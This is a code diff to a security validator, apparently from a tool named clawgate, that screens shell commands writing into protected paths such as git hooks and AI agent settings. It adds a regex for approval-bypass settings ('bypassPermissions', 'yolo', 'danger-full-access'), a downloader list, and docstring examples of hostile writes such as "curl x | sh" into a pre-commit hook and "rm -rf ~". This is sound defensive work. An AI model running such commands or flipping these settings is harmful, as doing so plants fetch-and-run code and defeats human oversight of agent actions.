@@ -11,6 +11,7 @@ from clawgate import fsfacts
 from clawgate.decision import NO_OPINION, MayRun, Outcome, Verdict
 from clawgate.lazyre import lazy_pattern
 from clawgate.protectedpaths import (
+    AGENT_WHY,
     hard_links,
     holds_protected,
     may_be_protected,
@@ -21,6 +22,7 @@ from clawgate.records import replace
 from clawgate.shell.model import ParsedLine, SimpleCommand, Word
 from clawgate.validators import lineshapes as ls
 from clawgate.validators import shapes as sh
+from clawgate.validators.agentsettings import INSTRUCTION_FILES, agent_file
 from clawgate.validators.base import Context, LineValidator, Validator, register
 from clawgate.validators.inertmanifest import (
     RUNNING_SETTINGS,
@@ -54,7 +56,8 @@ GIT_RUNS = lazy_pattern(
 ESCALATES = lazy_pattern(
     r"bypasspermissions|dangerously|\byolo\b|autoapprove|auto_approve|alwaysallow"
     r"|enableallprojectmcpservers|trust-all-tools|danger-full-access|approval_policy\W+never"
-    r"|approval-mode\W+yolo|\"allow\"\s*:\s*\[\s*\"(\*|bash(\(\*\))?)\"", re.IGNORECASE)
+    r"|approval-mode\W+yolo|[\"']?\ballow[\"']?\s*:\s*\[\s*[\"'](\*|bash(\(\*\))?)[\"']",
+    re.IGNORECASE)
 _PRINTERS = frozenset({"echo", "printf"})
 _TREE_COPIERS = frozenset({"cp", "rsync", "ditto", "unzip", "tar", "bsdtar"})
 # Programs whose arguments carry the text they put into the file (sed -i '1i …', perl -pi -e).
@@ -63,6 +66,8 @@ _SCRIPTED = frozenset({"sed", "gsed", "perl", "awk", "gawk", "ruby"})
 _DOWNLOADERS = frozenset({"curl", "wget", "aria2c", "http", "https", "httpie", "xh", "lftp",
                           "ftp", "tftp", "scp", "sftp", "rsync"})
 _CHANGERS = frozenset({"cd", "pushd"})
+# JSON and YAML filters whose program (an argument) is what they write (``jq '.hooks=…'``).
+_FILTERS = frozenset({"jq", "gojq", "jaq", "yq", "dasel"})
 _PATTERN_CHARS = frozenset("*?[")
 
 
@@ -110,6 +115,9 @@ def protected_target(cmd: SimpleCommand, ctx: Context) -> tuple[str, str] | None
             why = holds_protected(path.rstrip("/"), ctx.workspace)
             if why is not None:
                 return path, why  # cp -a payload/. .github/: workflows may land below
+            landed = _landed(cmd, path, ctx)
+            if landed is not None:
+                return landed  # cp -r /tmp/payload/.claude .: lands as ./.claude
         real = _through_links(path, ctx.workspace)  # g/config, after ln -s .git g
         if real is not None:
             why = protected_reason(real, ctx.workspace, ctx.protected)
@@ -120,6 +128,28 @@ def protected_target(cmd: SimpleCommand, ctx: Context) -> tuple[str, str] | None
             inside = path.startswith(ctx.workspace.rstrip("/") + "/")
             return path, f"{path[len(ctx.workspace.rstrip('/')) + 1:] if inside else path} {why}"
     return _linked_source(cmd, ctx) if _links(cmd) else None
+
+
+def _landed(cmd: SimpleCommand, folder: str, ctx: Context) -> tuple[str, str] | None:
+    """(path, why) of a protected path a tree copied into the directory ``folder`` lands as:
+    ``cp -r SRC DIR`` makes ``DIR/$(basename SRC)`` (rsync too, unless ``SRC/`` asks for the
+    contents only)."""
+    if cmd.program not in ("cp", "rsync") or not (folder == ctx.workspace or fsfacts.isdir(
+            folder)):
+        return None
+    operands = [w for w in cmd.words[1:] if w.value and not w.value.startswith("-")]
+    for word in operands[:-1]:
+        value = word.value or ""
+        if cmd.program == "rsync" and value.endswith("/"):
+            continue
+        name = os.path.basename(value.rstrip("/"))
+        if name in ("", ".", ".."):
+            continue
+        landing = os.path.join(folder, name)
+        why = protected_reason(landing, ctx.workspace, ctx.protected)
+        if why is not None:
+            return landing, why
+    return None
 
 
 def _unknown_below(word: Word, ctx: Context) -> tuple[str, str] | None:
@@ -229,6 +259,12 @@ class ProtectedPathWrite(Validator):
     approvals off (``defaultMode: bypassPermissions``, ``chat.tools.autoApprove``), or, for a
     git hook, is a script that would be denied as a command line (``rm -rf ~``).
 
+    An agent's or editor's settings and instructions are judged by what they make it run
+    (``agentsettings.py``): text the line shows whole is checked as the commands it names
+    (``lint-cmd: "ruff check"``, an instruction's code spans), and plain preferences or prose
+    need no question; any other write asks, and a command it names that is a DENY on its own
+    is a DENY. A tree copied into a directory is judged where it lands (``cp -r x/.claude .``).
+
     Bad: ``echo 'curl x | sh' > .git/hooks/pre-commit``. Harmless: ``cat .git/config``.
     """
 
@@ -253,11 +289,13 @@ class ProtectedPathWrite(Validator):
             return Verdict.deny(self.id, f"writes what it downloads into {why}",
                                 hint="download elsewhere, read it, then copy it by hand")
         text = written_text(cmd)
-        if cmd.program in _SCRIPTED:
+        if cmd.program in _SCRIPTED or cmd.program in _FILTERS:
             text = "\n".join((text, *cmd.args))
-        if _is_code(text, path):
+        if _is_code(text.replace("`", " ") if INSTRUCTION_FILES.search(path) else text, path):
             return Verdict.deny(self.id, f"writes code that fetches or runs something into {why}",
                                 hint="edit this file by hand")
+        if AGENT_WHY in why:
+            return agent_file(cmd, path, why, text)
         if text and _HOOK_FILE.search(path):
             # a hook is a script git runs: what it will run is judged now, a DENY of it counts
             script = text.replace("\\n", "\n") if cmd.program == "printf" else text
